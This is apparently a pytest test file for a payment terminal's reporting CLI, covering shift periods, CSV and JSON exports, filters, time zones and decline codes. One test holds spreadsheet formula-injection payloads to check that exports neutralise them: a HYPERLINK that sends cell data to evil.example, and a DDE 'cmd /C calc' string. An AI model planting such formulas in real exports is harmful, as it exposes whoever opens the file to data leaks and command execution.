"""``taptill report`` and ``taptill journal --csv`` on a journal written through the journal's own API:
period boundaries, an empty period, CSV and JSON read back, filters, the chart as a real PNG."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from terminal.cli import main
from terminal.config import load_config
from terminal.emulator.wallet import WalletEmulator
from terminal.journal import Journal, SaleRecord
from terminal.report import declines
from terminal.report.chart import INSTALL_HINT
from terminal.report.export import CSV_FIELDS, text_cell
from terminal.report.period import PeriodError, parse_time, period
from terminal.report.shift import NO_PRICE_LIST, NO_PRICE_LIST_NOTE
from terminal.wallet.catalog import CACHE_KEY
from tests.terminal_lab import ERIKA, MAX, REPO, journal_sale, write_config

T0 = datetime(2025, 6, 1, 18, 0, tzinfo=UTC)
PRODUCTS = [
    {"id": "espresso", "name": "Espresso", "price": 250},
    {"id": "latte", "name": "Latte Macchiato", "price": 350},
    {"id": "topup_10", "name": "Aufladung 10 €", "price": -1000},
]


def _at(journal: Journal, sale: SaleRecord | None, minutes: float) -> None:
    """Move the newest sale (or ``sale``) to T0 + ``minutes``, as the journal writes times."""
    when = (T0 + timedelta(minutes=minutes)).isoformat(timespec="milliseconds")
    sale_id = sale.id if sale else int(journal.query("SELECT MAX(id) FROM sales")[0][0])
    journal.execute("UPDATE sales SET created_at = ? WHERE id = ?", (when, sale_id))


def _sell(journal: Journal, minutes: float, products: list[str], cents: int, **kw: object) -> SaleRecord:
    sale = journal_sale(
        journal,
        products,
        cents,
        uid=str(kw.pop("uid", MAX)),
        offline=bool(kw.pop("offline", False)),
        dispense=cents < 0,
    )
    _at(journal, sale, minutes)
    return sale


AT_TAP_REFUSAL = "the server answered its debit with 500 and booked nothing; the tap was declined"


@pytest.fixture
def config(tmp_path: Path) -> Iterator[Path]:
    """A shift written with the journal's API: 18:00-20:00 UTC on 2025-06-01."""
    with WalletEmulator.demo("doc") as server:
        path = write_config(tmp_path, server)
    journal = Journal.open(load_config(path).journal_path)
    journal.cache_put(CACHE_KEY, {"permission": "all", "products": PRODUCTS})
    done = _sell(journal, 0, ["espresso"], -250)  # exactly at --since in the tests below
    journal.mark_done(done.id, 1750, approved=True)
    journal.mark_dispensed(done.idempotency_key)
    cart = _sell(journal, 10, ["espresso", "latte"], -600)
    journal.mark_done(cart.id, 1150, approved=True)  # dispensed stays 0: charged, not served
    offline = _sell(journal, 65, ["latte"], -350, offline=True)  # 19:05, still pending
    held = _sell(journal, 70, ["espresso"], -250, uid=ERIKA)
    journal.hold(held.id, "unclear whether booked")
    rejected = _sell(journal, 80, ["espresso"], -250, uid=ERIKA, offline=True)
    journal.mark_rejected(rejected.id, "insufficient_balance: 400: Insufficient balance")
    topup = _sell(journal, 90, ["topup_10"], 1000, uid=ERIKA)
    journal.mark_done(topup.id, 1500, approved=True)
    journal.record_decline(
        token_id=MAX,
        products=["espresso"],
        amount_cents=-250,
        description="Bar",
        reason="offline: balance 100 < 250",
        offline=True,
    )
    _at(journal, None, 95)
    journal.record_decline(
        token_id=MAX, products=["espresso"], amount_cents=-250, description="Bar", reason="unknown_card"
    )
    _at(journal, None, 120)  # exactly at --until below: not in the shift
    assert offline.state == "pending"
    journal.close()
    yield path


def _run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


SHIFT = ("--since", "2025-06-01T18:00+00:00", "--until", "2025-06-01T20:00+00:00")


def test_the_json_report_counts_every_sale_once_to_the_cent(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = _run(capsys, "report", "--config", str(config), "--format", "json", *SHIFT)
    assert code == 0
    data = json.loads(out)
    assert sorted(data) == sorted(
        [
            "since",
            "until",
            "currency",
            "times",
            "products",
            "prices_cached",
            "debits",
            "topups",
            "table_bills",
            "booked_elsewhere",
            "rejected",
            "rejected_total",
            "declined",
            "declined_total",
            "not_served",
            "refunded",
            "served_by_hand",
            "wallet",
            "hours",
        ]
    )
    lines = {
        (p["kind"], p["product"]): (p["sold"], p["confirmed"], p["pending"], p["held"])
        for p in data["products"]
    }
    assert lines == {
        ("debit", "espresso"): (
            {"count": 3, "cents": 750},
            {"count": 2, "cents": 500},
            {"count": 0, "cents": 0},
            {"count": 1, "cents": 250},
        ),
        ("debit", "latte"): (
            {"count": 2, "cents": 700},
            {"count": 1, "cents": 350},
            {"count": 1, "cents": 350},
            {"count": 0, "cents": 0},
        ),
        ("topup", "topup_10"): (
            {"count": 1, "cents": 1000},
            {"count": 1, "cents": 1000},
            {"count": 0, "cents": 0},
            {"count": 0, "cents": 0},
        ),
    }
    assert data["debits"] == {
        "sold": {"count": 4, "cents": 1450},
        "confirmed": {"count": 2, "cents": 850},
        "pending": {"count": 1, "cents": 350},
        "held": {"count": 1, "cents": 250},
        "online": {"count": 3, "cents": 1100},
        "offline": {"count": 1, "cents": 350},
    }
    assert data["rejected"] == [
        {"code": "insufficient_balance", "reason": "400: Insufficient balance", "count": 1, "cents": 250}
    ]
    # 20:00 is out
    assert data["declined"] == [
        {"code": "offline_balance_too_low", "reason": "offline: balance too low", "count": 1}
    ]
    assert data["not_served"] == {"count": 1, "cents": 600}
    assert data["wallet"] == {"net_cents": 1000 - 250 - 600, "transactions": 3, "time": "booked"}
    assert data["times"] == {"sales": "journaled", "hours": "journaled", "wallet": "booked"}
    assert [(h["hour"][11:16], h["debits"], h["topups"]) for h in data["hours"]] == [
        (
            datetime(2025, 6, 1, 18, tzinfo=UTC).astimezone().strftime("%H:%M"),
            {"count": 2, "cents": 850},
            {"count": 0, "cents": 0},
        ),
        (
            datetime(2025, 6, 1, 19, tzinfo=UTC).astimezone().strftime("%H:%M"),
            {"count": 2, "cents": 600},
            {"count": 1, "cents": 1000},
        ),
    ]


def test_a_sale_at_since_is_in_and_one_at_until_is_out(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def keys(*period: str) -> list[str]:
        code, out, _ = _run(capsys, "journal", "--json", "--config", str(config), *period)
        assert code == 0
        return [json.loads(line)["created_at"][11:16] for line in out.splitlines()]

    assert keys(*SHIFT) == ["18:00", "18:10", "19:05", "19:10", "19:20", "19:30", "19:35"]
    assert keys("--since", "2025-06-01T20:00:00+00:00") == ["20:00"]
    assert keys("--until", "2025-06-01T18:00:00.001+00:00") == ["18:00"]
    assert keys("--since", "2025-06-01T19:10+00:00", "--until", "2025-06-01T19:20+00:00") == ["19:10"]


def test_an_empty_period_reports_nothing_sold(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = _run(capsys, "report", "--config", str(config), "--since", "2030-01-01")
    assert code == 0
    assert "(nothing sold in this period)" in out
    assert "Wallet server should show for this terminal: 0.00 EUR net" in out
    code, out, _ = _run(
        capsys, "report", "--config", str(config), "--since", "2030-01-01", "--format", "json"
    )
    data = json.loads(out)
    assert (data["products"], data["hours"], data["wallet"]) == (
        [],
        [],
        {"net_cents": 0, "transactions": 0, "time": "booked"},
    )


def test_the_csv_report_reads_back_with_the_csv_module(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = _run(capsys, "report", "--config", str(config), "--format", "csv", *SHIFT)
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    by_kind = {(r["kind"], r["key"]): r for r in rows}
    espresso = by_kind[("product-debit", "espresso")]
    assert (espresso["count"], espresso["cents"], espresso["euros"], espresso["held_count"]) == (
        "3",
        "750",
        "7.50",
        "1",
    )
    debits = by_kind[("debits", "")]
    assert (debits["cents"], debits["offline_cents"], debits["pending_cents"]) == ("1450", "350", "350")
    assert by_kind[("rejected", "insufficient_balance")]["cents"] == "250"
    assert by_kind[("rejected", "insufficient_balance")]["name"] == "400: Insufficient balance"
    assert by_kind[("wallet-net", "")]["cents"] == "150" and by_kind[("wallet-net", "")]["count"] == "3"
    assert sum(int(r["cents"]) for r in rows if r["kind"] == "hour-debits") == int(debits["cents"])
    assert sum(int(r["cents"]) for r in rows if r["kind"] == "product-debit") == int(debits["cents"])


def test_the_text_report_lines_up_and_says_what_the_wallet_should_show(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = _run(capsys, "report", "--config", str(config), *SHIFT)
    assert code == 0
    assert "Espresso                                     3      7.50          2       0     1" in out, out
    assert "Latte Macchiato                              2      7.00          1       1     0" in out
    assert "  held for reconciliation                    1      2.50" in out
    assert "Rejected by the wallet                       1      2.50  money not collected" in out
    assert "Charged but not served                       1      6.00" in out
    assert "Wallet server should show for this terminal: 1.50 EUR net" in out


def test_journal_csv_carries_the_same_fields_as_json(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _, as_json, _ = _run(capsys, "journal", "--json", "--config", str(config))
    _, as_csv, _ = _run(capsys, "journal", "--csv", "--config", str(config))
    sales = [json.loads(line) for line in as_json.splitlines()]
    rows = list(csv.DictReader(io.StringIO(as_csv)))
    assert list(sales[0]) == list(CSV_FIELDS) == list(rows[0])
    texts = {"idempotency_key", "token_id", "state", "reason", "operator", "created_at", "updated_at"}
    back = [
        {
            k: (v or None if k == "operator" else v) if k in texts else (json.loads(v) if v else None)
            for k, v in row.items()
        }
        for row in rows
    ]
    assert back == sales and len(back) == 8


def test_journal_filters_by_state_and_period(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = _run(
        capsys, "journal", "--csv", "--state", "pending", "--state", "rejected", "--config", str(config)
    )
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [(r["state"], r["held"]) for r in rows] == [
        ("pending", "false"),
        ("pending", "true"),
        ("rejected", "false"),
    ]
    code, out, _ = _run(
        capsys, "journal", "--state", "declined", "--since", "2025-06-01T19:30+00:00", "--config", str(config)
    )
    assert [line.split()[1] for line in out.splitlines()] == ["declined", "declined"]


def test_a_wrong_time_is_one_line_and_exit_2(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = _run(capsys, "report", "--config", str(config), "--since", "last tuesday")
    assert (code, out) == (2, "")
    assert err == (
        "taptill: --since 'last tuesday' is no time; give e.g. 2025-06-01, 2025-06-01T18:00, "
        "2025-06-01 18:00+02:00, today or yesterday\n"
    )
    code, _, err = _run(
        capsys, "journal", "--config", str(config), "--since", "2025-06-02", "--until", "2025-06-01"
    )
    assert code == 2 and "is not after --since" in err


def test_times_without_an_offset_are_local_and_today_starts_at_midnight() -> None:
    from zoneinfo import ZoneInfo

    berlin = ZoneInfo("Europe/Berlin")
    summer = parse_time("2025-06-01T18:00", "--since", zone=berlin)
    assert summer.astimezone(UTC) == datetime(2025, 6, 1, 16, 0, tzinfo=UTC)
    assert parse_time("2025-12-01", "--since", zone=berlin).astimezone(UTC).hour == 23
    now = datetime(2025, 6, 1, 22, 30, tzinfo=UTC)  # already 00:30 on 2 June in Berlin
    assert parse_time("today", "--since", now=now, zone=berlin) == datetime(2025, 6, 2, tzinfo=berlin)
    assert parse_time("yesterday", "--since", now=now, zone=berlin) == datetime(2025, 6, 1, tzinfo=berlin)
    span = period("2025-06-01T18:00:00.250+00:00", None)
    assert span.bounds() == ("2025-06-01T18:00:00.250+00:00", None)
    with pytest.raises(PeriodError):
        parse_time("2025-13-01", "--until")


def test_the_chart_is_a_real_png(config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    chart = tmp_path / "shift.png"
    code, _, err = _run(capsys, "report", "--config", str(config), "--chart", str(chart), *SHIFT)
    assert (code, err) == (0, "")
    with Image.open(chart) as image:
        assert image.format == "PNG" and image.size == (800, 550)
        assert len(image.getcolors(1 << 16) or []) > 10, "the bars and labels are drawn"


def test_without_matplotlib_the_chart_says_how_to_install_it(
    config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "matplotlib", None)  # import matplotlib raises ImportError
    chart = tmp_path / "shift.png"
    code, out, err = _run(capsys, "report", "--config", str(config), "--chart", str(chart))
    assert (code, out) == (2, "")
    assert err == f"taptill: {INSTALL_HINT}\n"
    assert "pip install 'taptill[chart]'" in INSTALL_HINT
    assert not chart.exists()


def test_the_terminal_itself_never_loads_the_report_libraries() -> None:
    """``taptill run`` imports neither matplotlib nor sqlite-utils: a terminal sells without them."""
    import subprocess

    probe = (
        "import sys, terminal.cli, terminal.service.run, terminal.device_loop; "
        "print(sorted(m for m in ('matplotlib', 'sqlite_utils', 'terminal.report') if m in sys.modules))"
    )
    out = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True, cwd=REPO)
    assert out.stdout.strip() == "[]", out.stdout


def _report_json(capsys: pytest.CaptureFixture[str], config: Path, since: str, until: str) -> dict[str, Any]:
    code, out, err = _run(
        capsys, "report", "--config", str(config), "--format", "json", "--since", since, "--until", until
    )
    assert (code, err) == (0, "")
    data: dict[str, Any] = json.loads(out)
    return data


def test_the_wallet_figure_counts_a_sale_in_the_period_the_wallet_booked_it(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An offline tap at 23:58 delivered at 00:03 is the next day's on pretix; a sale booked before midnight
    and settled by hand after it stays the first day's (its ``updated_at`` moved, its booking did not)."""
    journal = Journal.open(load_config(config).journal_path)
    late = datetime(2025, 6, 1, 23, 58, tzinfo=UTC)
    delivered = late + timedelta(minutes=5)
    offline = journal.record_sale(
        token_id=MAX, products=["latte"], amount_cents=-350, description="Bar", tag=None, offline=True
    )
    journal.execute(
        "UPDATE sales SET created_at = ? WHERE id = ?", (late.isoformat(timespec="milliseconds"), offline.id)
    )
    journal.mark_attempt(offline.id, 2000, at=delivered.timestamp())  # the outbox delivers it at 00:03
    journal.mark_done(offline.id, 1650)
    held = journal_sale(
        journal,
        ["espresso"],
        -250,
        uid=ERIKA,
        attempting=True,
        attempted_at=(late - timedelta(minutes=1)).timestamp(),
    )
    journal.execute(
        "UPDATE sales SET created_at = ? WHERE id = ?",
        ((late - timedelta(minutes=1)).isoformat(timespec="milliseconds"), held.id),
    )
    journal.hold(held.id, "unclear whether booked")
    assert journal.settle_held(held.idempotency_key, booked=True)
    journal.execute(
        "UPDATE sales SET updated_at = ? WHERE id = ?",
        (delivered.isoformat(timespec="milliseconds"), held.id),
    )
    journal.close()

    first = _report_json(capsys, config, "2025-06-01T00:00+00:00", "2025-06-02T00:00+00:00")
    second = _report_json(capsys, config, "2025-06-02T00:00+00:00", "2025-06-03T00:00+00:00")
    # the fixture's shift (1000 - 250 - 600, 3 transactions) and the held sale booked at 23:57
    assert first["wallet"] == {"net_cents": 150 - 250, "transactions": 4, "time": "booked"}
    assert second["wallet"] == {"net_cents": -350, "transactions": 1, "time": "booked"}
    # the sales themselves stay where they were journaled: the offline latte on the first day
    latte = next(p for p in first["products"] if p["product"] == "latte")
    assert latte["confirmed"] == {"count": 2, "cents": 700} and second["products"] == []
    assert (
        first["times"] == second["times"] == {"sales": "journaled", "hours": "journaled", "wallet": "booked"}
    )
    code, out, _ = _run(capsys, "report", "--config", str(config), "--since", "2025-06-02T00:00+00:00")
    assert code == 0 and "Wallet server should show for this terminal: -3.50 EUR net" in out
    assert "1 transaction(s) the wallet booked in this period;" in out
    assert "a sale counts when the wallet booked it, as pretix dates it, not when it was journaled" in out


def test_without_a_cached_price_list_products_are_named_by_id_and_say_so(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    journal = Journal.open(load_config(config).journal_path)
    journal.execute("DELETE FROM cache WHERE key = ?", (CACHE_KEY,))
    journal.close()
    data = _report_json(capsys, config, *SHIFT[1::2])
    assert data["prices_cached"] is False
    names = {p["product"]: p["name"] for p in data["products"]}
    assert names == {
        "espresso": f"espresso {NO_PRICE_LIST}",
        "espresso+latte": f"espresso + latte {NO_PRICE_LIST}",  # no prices: the cart is not split
        "latte": f"latte {NO_PRICE_LIST}",
        "topup_10": f"topup_10 {NO_PRICE_LIST}",
    }
    code, out, _ = _run(capsys, "report", "--config", str(config), *SHIFT)
    assert code == 0
    assert f"espresso {NO_PRICE_LIST}" in out
    assert [line for line in out.splitlines() if "no price list cached:" in line] == [NO_PRICE_LIST_NOTE]


def test_the_csv_report_says_what_each_count_counts_and_splits_products_online_and_offline(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = _run(capsys, "report", "--config", str(config), "--format", "csv", *SHIFT)
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    by_kind = {(r["kind"], r["key"]): r for r in rows}
    latte, espresso = by_kind[("product-debit", "latte")], by_kind[("product-debit", "espresso")]
    assert [latte[c] for c in ("online_count", "online_cents", "offline_count", "offline_cents")] == [
        "1",
        "350",
        "1",
        "350",
    ]
    assert [espresso[c] for c in ("online_count", "offline_count")] == ["3", "0"]
    products = [r for r in rows if r["kind"] == "product-debit"]
    debits = by_kind[("debits", "")]
    for part in ("online", "offline"):
        assert sum(int(r[f"{part}_cents"]) for r in products) == int(debits[f"{part}_cents"])
    assert {r["kind"]: r["counted"] for r in rows} == {
        "product-debit": "units",
        "product-topup": "units",
        "debits": "sales",
        "topups": "sales",
        "table-bills": "sales",
        "booked-elsewhere": "sales",
        "not-served": "sales",
        "refunded": "sales",
        "served-by-hand": "sales",
        "rejected": "sales",
        "declined": "taps",
        "hour-debits": "sales",
        "hour-topups": "sales",
        "wallet-net": "transactions",
    }
    declined = [r for r in rows if r["kind"] == "declined"]
    assert [(r["key"], r["name"], r["count"]) for r in declined] == [
        ("offline_balance_too_low", "offline: balance too low", "1")
    ]
    data = _report_json(capsys, config, *SHIFT[1::2])
    online_offline = {p["product"]: (p["online"], p["offline"]) for p in data["products"]}
    assert online_offline["latte"] == ({"count": 1, "cents": 350}, {"count": 1, "cents": 350})


def test_a_sale_refused_while_its_guest_waited_is_a_declined_tap_not_money_lost(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The wallet refused it at the tap (the guest saw "declined", nothing was served): it is no money
    "not collected"; its code is stable and the server's words are whole, in every format."""
    journal = Journal.open(load_config(config).journal_path)
    at_tap = journal_sale(journal, ["latte"], -350, approved=False)
    _at(journal, at_tap, 85)
    journal.mark_rejected(at_tap.id, f"bad_product: {AT_TAP_REFUSAL}")
    journal.close()
    data = _report_json(capsys, config, *SHIFT[1::2])
    assert data["rejected"] == [
        {"code": "insufficient_balance", "reason": "400: Insufficient balance", "count": 1, "cents": 250}
    ]
    assert data["declined"] == [
        {"code": "bad_product", "reason": AT_TAP_REFUSAL, "count": 1},
        {"code": "offline_balance_too_low", "reason": "offline: balance too low", "count": 1},
    ]
    code, out, _ = _run(capsys, "report", "--config", str(config), "--format", "csv", *SHIFT)
    assert code == 0
    rows = {(r["kind"], r["key"]): r for r in csv.DictReader(io.StringIO(out))}
    assert rows[("declined", "bad_product")]["name"] == AT_TAP_REFUSAL
    assert rows[("rejected", "insufficient_balance")]["cents"] == "250"
    code, out, _ = _run(capsys, "report", "--config", str(config), *SHIFT)
    assert code == 0
    assert AT_TAP_REFUSAL in out  # whole, not cut to the label column
    rejected_line = next(line for line in out.splitlines() if line.startswith("Rejected by the wallet"))
    assert rejected_line.split()[4:6] == ["1", "2.50"], rejected_line


def test_times_the_clocks_skip_or_show_twice_are_refused_with_the_offsets_to_give() -> None:
    from zoneinfo import ZoneInfo

    berlin = ZoneInfo("Europe/Berlin")
    with pytest.raises(PeriodError) as skipped:
        parse_time("2026-03-29T02:30", "--since", zone=berlin)
    assert str(skipped.value) == (
        "--since '2026-03-29T02:30': 2026-03-29T02:30 does not exist in time zone Europe/Berlin (the clocks "
        "skip it); give an offset, e.g. 2026-03-29T02:30+01:00, or a time outside the skipped hour"
    )
    with pytest.raises(PeriodError) as twice:
        period(None, "2026-10-25T02:30", zone=berlin)
    assert str(twice.value) == (
        "--until '2026-10-25T02:30': 2026-10-25T02:30 happens twice in time zone Europe/Berlin (the clocks "
        "go back); give an offset: 2026-10-25T02:30+02:00 for the first, "
        "2026-10-25T02:30+01:00 for the second"
    )
    # the fixes it names are taken, and the hours around the changes are as before
    assert parse_time("2026-10-25T02:30+01:00", "--until", zone=berlin) == datetime(
        2026, 10, 25, 1, 30, tzinfo=UTC
    )
    assert parse_time("2026-03-29T03:00", "--since", zone=berlin) == datetime(2026, 3, 29, 1, 0, tzinfo=UTC)
    assert parse_time("2026-10-25T03:30", "--since", zone=berlin) == datetime(2026, 10, 25, 2, 30, tzinfo=UTC)
    assert parse_time("2026-03-29", "--since", zone=berlin) == datetime(2026, 3, 28, 23, 0, tzinfo=UTC)


def test_the_machines_own_zone_refuses_them_too_in_one_line(config: Path) -> None:
    """``taptill report`` reads a time without an offset in the machine's zone (TZ here): a subprocess."""
    import subprocess

    env = {**os.environ, "TZ": "Europe/Berlin", "PYTHONPATH": str(REPO)}
    for when, says in (("2026-03-29T02:30", "does not exist"), ("2026-10-25T02:30", "happens twice")):
        cmd = [
            sys.executable,
            "-m",
            "terminal",
            "report",
            "--config",
            str(config),
            "--since",
            when,
        ]
        out = subprocess.run(cmd, capture_output=True, text=True, env=env, cwd=REPO)
        assert out.returncode == 2 and out.stdout == "", out
        assert out.stderr.startswith(f"taptill: --since '{when}': {when} {says} in the local time zone")
        assert out.stderr.count("\n") == 1


def test_every_decline_the_terminal_journals_has_a_stable_code() -> None:
    from terminal.config import OfflineConfig
    from terminal.controller.offline_policy import decide_offline
    from terminal.journal import OfflineView, offline_reason
    from terminal.model import DeclineReason

    def view(**kw: Any) -> OfflineView:
        seen: dict[str, Any] = dict(
            last_balance=1000,
            balance_age_s=10.0,
            card_unconfirmed_cents=0,
            total_unconfirmed_cents=0,
            unconfirmed_count=0,
            denied_reason=None,
        )
        return OfflineView(**{**seen, **kw})

    policy = OfflineConfig()
    said = {
        decide_offline(view(), 250, OfflineConfig(mode="decline")).reason: declines.OFFLINE_POLICY,
        decide_offline(view(denied_reason="lost"), 250, policy).reason: declines.OFFLINE_CARD_DENIED,
        decide_offline(view(last_balance=None), 250, policy).reason: declines.OFFLINE_NEVER_SEEN,
        decide_offline(view(balance_age_s=1e9), 250, policy).reason: declines.OFFLINE_BALANCE_OLD,
        decide_offline(view(card_unconfirmed_cents=10**9), 250, policy).reason: declines.OFFLINE_CARD_LIMIT,
        decide_offline(
            view(total_unconfirmed_cents=10**9), 250, policy
        ).reason: declines.OFFLINE_TERMINAL_LIMIT,
        decide_offline(view(last_balance=100), 250, policy).reason: declines.OFFLINE_BALANCE_LOW,
        # the controller's own notes (terminal/controller/core.py, topup.py, device_loop.py)
        offline_reason("top-up limit ([topup] max_offline_credit_cents)"): declines.OFFLINE_TOPUP_LIMIT,
        offline_reason(
            "this sale is never made without the wallet server's word"
        ): declines.OFFLINE_NEEDS_WALLET,
        offline_reason("the server cannot book product espresso, latte"): declines.OFFLINE_UNSELLABLE,
        "an earlier sale of this card is still being confirmed by the wallet": "earlier_pending",
        "operator olga: 6000 cents would pass [topup] max_credit_per_unlock_cents = 5000; lock and "
        "unlock again": declines.CREDIT_LIMIT_UNLOCK,
        "operator olga: shift cap 5000 cents reached (4000 credited today)": declines.CREDIT_LIMIT_SHIFT,
        "a note from a later version": declines.OTHER,
        "": declines.OTHER,
    }
    said.update({str(r): str(r) for r in DeclineReason})  # the guest's codes are codes already
    assert {reason: declines.decline_code(reason) for reason in said} == said
    codes = [c for r, c in said.items() if c != declines.OTHER]
    assert all(re.fullmatch(r"[a-z_]+", c) for c in codes)


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised_in_both_exports(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    journal = Journal.open(load_config(config).journal_path)
    products = [{**PRODUCTS[0], "name": attack}, *PRODUCTS[1:]]
    journal.cache_put(CACHE_KEY, {"permission": "all", "products": products})
    journal.execute("UPDATE sales SET reason = ? WHERE state = 'rejected'", ("@SUM(1+1)*cmd|' /C calc'!A0",))
    journal.close()
    code, out, _ = _run(capsys, "report", "--config", str(config), "--format", "csv", *SHIFT)
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    by_kind = {(r["kind"], r["key"]): r for r in rows}
    assert by_kind[("product-debit", "espresso")]["name"] == "'" + attack
    rejected = next(r for r in rows if r["kind"] == "rejected")
    assert (rejected["key"], rejected["name"]) == ("other", "'@SUM(1+1)*cmd|' /C calc'!A0")
    assert by_kind[("wallet-net", "")]["cents"] == "150"  # numbers stay numbers
    code, out, _ = _run(capsys, "journal", "--csv", "--config", str(config), "--state", "rejected")
    assert code == 0
    (row,) = csv.DictReader(io.StringIO(out))
    assert (row["reason"], row["amount_cents"]) == ("'@SUM(1+1)*cmd|' /C calc'!A0", "-250")
    for start in ("=", "+", "-", "@", "\t", "\r", "\uff1d"):
        assert text_cell(f"{start}1+2").startswith("'"), repr(start)
    assert [text_cell(t) for t in ("Espresso", "1+2", "", "a=b")] == ["Espresso", "1+2", "", "a=b"]


def test_a_rejections_words_are_kept_as_whole_as_the_journal_keeps_them() -> None:
    from terminal.report.shift import rejection_code, rejection_group

    said = "the server answered 500 to every attempt (3) and booked nothing; " + "x" * 220
    assert rejection_group(f"bad_product: {said}") == said  # 286 characters, not cut at 200
    assert rejection_code(f"bad_product: {said}") == "bad_product"
    assert rejection_code("400: Insufficient balance") == "other"
